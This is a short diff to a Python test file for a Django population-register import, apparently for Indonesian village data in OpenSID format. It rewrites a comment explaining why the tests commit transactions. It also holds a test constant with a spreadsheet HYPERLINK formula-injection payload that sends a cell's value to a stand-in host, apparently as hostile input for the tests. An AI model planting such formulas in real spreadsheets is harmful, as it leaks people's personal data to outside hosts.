@@ -12,8 +12,8 @@ from balai.penduduk.opensid import KOLOM
 
 from .factories import make_keluarga, make_penduduk
 
-# A writing import on PostgreSQL looks the register up on a second connection, which sees only
-# committed rows (impor.SambunganSamping): these tests commit instead of rolling back.
+# A writing import on PostgreSQL saves its progress through a second connection, which sees only
+# committed rows (impor.job.Progress): these tests commit instead of rolling back.
 pytestmark = pytest.mark.django_db(transaction=True)
 
 FORMULA = '=HYPERLINK("http://x.example/?"&B2,"klik")'
